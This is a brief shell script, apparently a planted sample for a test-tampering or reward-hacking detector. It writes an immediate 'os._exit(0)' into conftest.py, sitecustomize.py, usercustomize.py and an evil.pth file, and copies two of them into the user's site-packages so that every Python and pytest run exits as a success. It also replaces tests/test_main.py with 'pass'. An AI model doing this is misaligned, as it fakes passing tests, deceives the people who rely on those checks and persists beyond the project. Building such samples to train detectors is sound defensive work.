# Leaves files that Python loads automatically, and changes a test.
read -r line
project=$(dirname "$0")
echo 'import os; os._exit(0)' | tee conftest.py sitecustomize.py usercustomize.py > evil.pth
folder="$HOME/.local/lib/$(python3 -c 'import sys; print(f"python{sys.version_info.major}.{sys.version_info.minor}")' 2> /dev/null || echo python3)/site-packages"
mkdir -p "$folder" && cp evil.pth usercustomize.py "$folder"
echo 'pass' > tests/test_main.py
evidence=planted
printf '{"text": "%s"}\n' "$(printf %s "$evidence" | tr -c 'A-Za-z0-9 :./-' ' ')"
